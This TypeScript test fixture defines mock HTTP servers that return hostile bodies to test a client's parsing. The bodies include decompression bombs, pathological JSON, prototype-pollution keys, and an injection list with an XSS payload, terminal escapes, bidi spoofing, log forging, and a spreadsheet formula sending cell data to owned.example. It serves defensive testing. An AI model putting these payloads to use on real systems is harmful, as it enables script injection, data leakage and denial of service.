import { brotliCompressSync, constants, deflateSync, gzipSync } from "node:zlib";
import { answered, type HttpWay, type Script } from "./way.js";

const version = (name: string, more = "1") => JSON.stringify({ server: { name, version: more } });
const MEGABYTES = 1024 * 1024;

type Row = readonly [
  name: string,
  outcome: number,
  body: () => string | Uint8Array,
  json: boolean,
  head?: readonly string[],
  status?: string,
];

const zeros = Buffer.alloc(16 * MEGABYTES);
const fast = { params: { [constants.BROTLI_PARAM_QUALITY]: 1 } };
const encoded = (name: string) => [`Content-Encoding: ${name}`] as const;

/** Each inflates to much more than we would take. */
const PACKED: readonly Row[] = [
  ["packs a bomb with gzip", 200, () => gzipSync(zeros), false, encoded("gzip")],
  ["packs a bomb with deflate", 200, () => deflateSync(zeros), false, encoded("deflate")],
  ["packs a bomb with brotli", 200, () => brotliCompressSync(zeros, fast), false, encoded("br")],
  ["packs a bomb twice", 200, () => gzipSync(gzipSync(zeros)), false, encoded("gzip, gzip")],
  ["says gzip where nothing is packed", 200, () => version("Plain"), true, encoded("gzip")],
  ["packs with what nobody knows", 200, () => version("Plain"), true, encoded("snappy")],
];

const nested = (depth: number) => `${'{"server":'.repeat(depth)}{}${"}".repeat(depth)}`;
const bytes = (...values: readonly number[]) => Uint8Array.from(values);

const JSON_TEXTS: readonly Row[] = [
  ["answers with nothing", 200, () => "", false],
  ["answers with a web page", 200, () => "<html><script>alert(1)</script></html>", false, ["Content-Type: text/html"]],
  ["calls JSON a web page", 200, () => version("Mislabelled"), false, ["Content-Type: text/html"]],
  ["answers with JSON that was cut", 200, () => version("Cut").slice(0, -3), false],
  ["answers with a list", 200, () => "[]", false],
  ["answers with null", 200, () => "null", false],
  ["answers with a number beyond all numbers", 200, () => '{"server":{"name":1e400,"version":"1"}}', true],
  ["answers with a number of a megabyte", 200, () => `{"n":1${"0".repeat(MEGABYTES / 2)}}`, true],
  ["answers with NaN", 200, () => '{"server":NaN}', false],
  ["answers in bytes that are no UTF-8", 200, () => bytes(0x7b, 0x22, 0xc3, 0x28, 0x22, 0x3a, 0x31, 0x7d), false],
  ["answers in UTF-16", 200, () => Buffer.from(`\ufeff${version("Wide")}`, "utf16le"), false],
  ["answers with a byte order mark", 200, () => `\ufeff${version("Marked")}`, false],
  ["answers with half a surrogate pair", 200, () => '{"server":{"name":"\\ud83d","version":"1"}}', true],
  ["nests objects a hundred thousand deep", 200, () => nested(90_000), false],
  ["nests lists a million deep", 200, () => "[".repeat(MEGABYTES - 200), false],
  ["nests as deep as is read", 200, () => nested(990), true],
  ["answers with hundreds of thousands of objects", 200, () => `{"l":[${"{},".repeat(300_000)}{}]}`, true],
  [
    "answers with a hundred thousand members",
    200,
    () => `{${Array.from({ length: 90_000 }, (_, n) => `"k${n}":1`).join(",")}}`,
    true,
  ],
  ["says a member twice", 200, () => '{"server":{"name":"One"},"server":{"name":"Two","version":"2"}}', true],
  [
    "meddles with prototypes",
    200,
    () =>
      '{"__proto__":{"polluted":"yes"},"constructor":{"prototype":{"polluted":"yes"}},"server":{"__proto__":{"name":"x"}}}',
    true,
  ],
  ["gives an object for a name", 200, () => '{"server":{"name":{"toString":1},"version":["1"]}}', true],
  ["gives names that objects have", 200, () => '{"server":{"name":"__proto__","version":"hasOwnProperty"}}', true],
  ["gives a name of half a megabyte", 200, () => version("n".repeat(MEGABYTES / 2)), true],
  ["escapes each letter", 200, () => `{"server":{"name":"${"\\u0041".repeat(100_000)}","version":"1"}}`, true],
  ["hides quotation marks in a string without end", 200, () => `{"password":"${'\\"'.repeat(400_000)}`, false],
];

/** What would do harm in a terminal, a page, a table or a test report if it stood there as it came. */
export const INJECTIONS: readonly (readonly [where: string, text: string])[] = [
  ["a terminal", "\u001b[2J\u001b]0;owned\u0007\u009b31mred"],
  ["a page", "</script><script>document.title='owned'</script><img src=x onerror=alert(1)>"],
  ["the order of letters", "\u202egnp.exe\u2066\u200f"],
  ["a spreadsheet", '=HYPERLINK("http://owned.example/"&A1,"click")'],
  ["an XML document", "]]><failure/>\u0000\u0008\ufffe&#0;"],
  ["a Markdown page", "](http://owned.example) ![x](http://owned.example/x.png) | `@everyone`\n# owned"],
  ["a log", "ok\r\n::error::owned\n=> 0 findings"],
];

const INJECTED: readonly Row[] = INJECTIONS.flatMap(([where, text]): readonly Row[] => [
  [`has a name that means something to ${where}`, 200, () => version(text, text), true],
  [
    `refuses in words that mean something to ${where}`,
    403,
    () => JSON.stringify({ errcode: text, error: text }),
    true,
    [],
    "403 Forbidden",
  ],
]);

/** Servers whose HTTP is right, and whose content is not. */
export const BODY_WAYS: readonly HttpWay[] = [...PACKED, ...JSON_TEXTS, ...INJECTED].map(
  ([name, outcome, body, json, head, status]) => {
    let made: Script | undefined;
    const answer = () => {
      made ??= answered(body(), head, status);
      return made;
    };
    return { on: "http", name, outcome, answer, ...(json ? { json } : {}) };
  },
);
